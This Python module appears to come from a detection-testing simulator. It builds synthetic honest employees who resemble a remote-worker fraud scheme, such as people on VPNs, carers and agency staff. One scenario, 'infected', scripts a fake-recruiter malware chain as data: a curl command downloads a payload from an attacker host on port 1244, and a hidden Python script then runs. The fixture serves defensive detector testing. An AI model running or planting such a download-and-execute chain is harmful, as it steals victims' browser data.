"""More honest people who look like the scheme. With `lookalikes` they are the hardest for any detector not to accuse.

Each is somebody who exists in any large company. They are made without any detection in view.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

from sleetwatch.worlds import software
from sleetwatch.worlds.devices import Laptop, private_machine
from sleetwatch.worlds.hr import bank_of, ordinary_parcel
from sleetwatch.worlds.lookalikes import ALWAYS, colleague, has_entra, in_entra, on_windows, somebody, trip
from sleetwatch.worlds.names import name_for
from sleetwatch.worlds.networks import BUSINESS, CLOUD, HOSTING, Line, building, household
from sleetwatch.worlds.people import OwnMachine, Person, Ran, Reached, Stay, Tool, Tunnel, Visit
from sleetwatch.worlds.places import CITIES
from sleetwatch.worlds.software import Program
from sleetwatch.worlds.truth import Cast

_CLOUD_MODEL = "Cloud PC Enterprise 4vCPU/16GB/256GB"
_PORT_OF_THE_THIEF = 1244


def second_job(cast: Cast) -> None:
    person = somebody(cast, "Austin", developer=True)
    on_windows(person)
    person.laptop.peripherals = ["monitor-dell"]
    person.plugged = [(cast.calendar.working_day(share), 9.4, "tinypilot") for share in (0.1, 0.45, 0.8)]
    person.away -= {day for day, _, _ in person.plugged}
    person.tools = [Tool("awake", -1, ALWAYS, 0.9, installed=False)]
    person.wired_from = -1
    cast.look_alike(
        "second-job", [person], "Sits at home in Austin with two full jobs, a network KVM and no sleep mode."
    )


def home_router(cast: Cast) -> None:
    person = somebody(cast, "Boston")
    calendar = cast.calendar
    first, last = calendar.day(0.2), calendar.day(0.9)
    zone = person.hours.zone
    trip(cast, person, "Lisbon", first, last, household(CITIES["Lisbon"], cast.rng, calendar.days))
    person.stays[-1].zone = zone
    person.tunnels = [Tunnel(person.home, share, first, last, carries) for share, carries in _THROUGH_HOME]
    cast.look_alike("home-router", [person], "In Lisbon for months, behind a router that tunnels home to Boston.")


_THROUGH_HOME = ((0.97, "machine"), (0.97, "browser"), (0.5, "phone"))


def service_provider(cast: Cast) -> None:
    pair = [colleague(cast, "IT", "IT Support Technician") for _ in range(2)]
    for person in pair:
        on_windows(person)
        person.worker_type, person.agency = "agency", "Brightway Staffing"
        person.tools = [
            Tool(key, -1, ALWAYS, 0.6, installed=False) for key in ("anydesk", "screenconnect", "chrome-remote")
        ]
    cast.look_alike("service-provider", pair, "Technicians of a service provider: three remote tools, every day.")


def client_desktop(cast: Cast) -> None:
    pair = [cast.take(in_entra, has_entra) for _ in range(2)]
    desktops = Line(CLOUD, CITIES["Chicago"], [(-10_000, CLOUD.address(cast.rng))], "10.77.0.1", "")
    for person in pair:
        on_windows(person)
        _into_the_cloud(person.laptop)
        person.worker_type, person.agency, person.gets_no_parcel = "agency", "Talent Harbor", True
        person.cloud, person.wired_from = desktops, -1
        person.own = OwnMachine(private_machine(person.rng, mac=False), 0, ALWAYS, 1.0)
    cast.look_alike("client-desktop", pair, "Agency staff on the client's cloud desktops, from machines of their own.")


def _into_the_cloud(laptop: Laptop) -> None:
    laptop.maker, laptop.model, laptop.name = "Microsoft Corporation", _CLOUD_MODEL, f"CPC-{laptop.serial[-8:]}"
    laptop.peripherals = []


def campus(cast: Cast) -> None:
    interns = [somebody(cast, "Pittsburgh") for _ in range(5)]
    line = building("US", CITIES["Pittsburgh"], cast.rng, "eduroam", "10.64.0.1")
    for person in interns:
        person.title, person.home, person.address = "Intern", line, interns[0].address
    cast.look_alike("campus", interns, "Five interns in one dormitory, behind one campus address.")


def homelab(cast: Cast) -> None:
    person = somebody(cast, "Minneapolis", developer=True)
    on_windows(person)
    site = ("pikvm.lan", "192.168.1.77", 443)
    person.reached = [Reached(day, 20.3, site, "chrome.exe") for day in range(2, cast.calendar.days, 3)]
    cast.look_alike("homelab", [person], "Steers servers in the cellar through a network KVM; the laptop has none.")


def new_name(cast: Cast) -> None:
    person = cast.take(in_entra, has_entra)
    person.parcels = [ordinary_parcel(person, cast.calendar)]
    person.pay = [bank_of(person, person.started)]
    before = person.last
    while person.last == before:
        person.last = name_for(person.city.country, person.rng)[1]
    cast.look_alike("new-name", [person], "Took another name: mail address, bank and parcel still have the old one.")


def infected(cast: Cast) -> None:
    person = somebody(cast, "Raleigh", developer=True)
    on_windows(person)
    day, thief = cast.calendar.working_day(0.5), HOSTING["constant"].address(cast.rng)
    person.away.discard(day)
    person.ran = [Ran(day, 19.2 + place / 50, program) for place, program in enumerate(_theft(thief))]
    person.reached = [Reached(day, 19.25 + step / 20, ("", thief, _PORT_OF_THE_THIEF), "node.exe") for step in range(4)]
    cast.look_alike(
        "infected", [person], "Did a coding test for a false recruiter; it stole what the browser knew. The victim."
    )


def _theft(thief: str) -> list[Program]:
    return [
        replace(software.GIT, command="git.exe clone https://bitbucket.org/hiring-task/shop-frontend.git"),
        Program("node.exe", r"C:\Program Files\nodejs", "Node.js", "Node.js", "node.exe server/index.js", "Code.exe"),
        Program(
            "curl.exe",
            r"C:\Windows\System32",
            "curl, https://curl.se/",
            "The curl executable",
            f"curl -Lo p.zi http://{thief}:{_PORT_OF_THE_THIEF}/pdown",
            "node.exe",
        ),
        Program("python.exe", r"C:\Users\{user}\.pyp", "", "", "python.exe .sysinfo", "node.exe"),
    ]


def coworkers(cast: Cast) -> None:
    three = [somebody(cast, "Barcelona") for _ in range(3)]
    room = building("ES", CITIES["Barcelona"], cast.rng, "FORJA-COWORK", "10.31.0.1")
    for person in three:
        person.office, person.office_share = room, 0.7
    cast.look_alike("co-working-three", three, "Three colleagues rent a table in one co-working space.")


def cloned_sixty(cast: Cast) -> None:
    person = cast.hire()
    on_windows(person)
    person.department, person.title = "Engineering", "Platform Engineer"
    person.clones = [(cast.start_of(person), 60)]
    cast.look_alike("cloned-sixty", [person], "A script of the team's cloned sixty repositories on the first day.")


def carer(cast: Cast) -> None:
    person = somebody(cast, "Bristol")
    person.hours.start, person.hours.length, person.hours.spread, person.hours.weekend = 6.2, 16.5, 1.1, 0.35
    cast.look_alike("carer", [person], "Looks after a parent: works early, late, and at weekends, with long gaps.")


def on_call(cast: Cast) -> None:
    pair = [somebody(cast, city, developer=True) for city in ("Munich", "Chicago")]
    for person in pair:
        nights = sorted(cast.rng.sample(range(cast.calendar.days), min(6, cast.calendar.days)))
        person.visits = [Visit(day, 1.0 + 4 * cast.rng.random(), person.home, "laptop") for day in nights]
    cast.look_alike("on-call", pair, "Called out of bed by alarms some nights.")


def long_leave(cast: Cast) -> None:
    person = cast.take(in_entra, has_entra)
    person.away.update(range(cast.calendar.day(0.15), cast.calendar.day(0.85)))
    cast.look_alike("long-leave", [person], "On parental leave; the phone still reads mail.")


def moved_away(cast: Cast) -> None:
    person = somebody(cast, "Seattle")
    line = household(CITIES["Tampa"], cast.rng, cast.calendar.days)
    person.stays = [Stay(cast.calendar.day(0.4), ALWAYS, line, zone=CITIES["Tampa"].zone)]
    cast.look_alike("moved-away", [person], "Moved across the country; HR has the old address.")


def office_vpn(cast: Cast) -> None:
    pair = [somebody(cast, city) for city in ("Portland", "Denver")]
    for person in pair:
        person.tunnels = [Tunnel(cast.office("Chicago"), 0.95, carries="machine")]
    cast.look_alike("office-vpn", pair, "All traffic of the laptop leaves at the Chicago office, 1500 km away.")


def no_camera(cast: Cast) -> None:
    pair = [cast.take(in_entra, has_entra) for _ in range(2)]
    for person in pair:
        person.camera_share = 0.02
    cast.look_alike("no-camera", pair, "Deaf, with captions and the camera off; and one who cannot bear to be seen.")


def vendor_office(cast: Cast) -> None:
    team = [_of_the_vendor(cast) for _ in range(4)]
    room = Line(BUSINESS["IN"], CITIES["Pune"], [(-10_000, BUSINESS["IN"].address(cast.rng))], "10.40.0.1", "TH-PUNE")
    for person in team:
        person.office, person.office_share, person.remote = room, 0.9, False
    cast.look_alike("vendor-office", team, "An agency's team in Pune, all behind the agency's one address.")


def _of_the_vendor(cast: Cast) -> Person:
    person = somebody(cast, "Pune", developer=True)
    person.worker_type, person.agency = "agency", "Talent Harbor"
    return person


HARD_CASES: tuple[Callable[[Cast], None], ...] = (
    second_job,
    home_router,
    service_provider,
    client_desktop,
    campus,
    homelab,
    new_name,
    infected,
    coworkers,
    cloned_sixty,
    carer,
    on_call,
    long_leave,
    moved_away,
    office_vpn,
    no_camera,
    vendor_office,
)
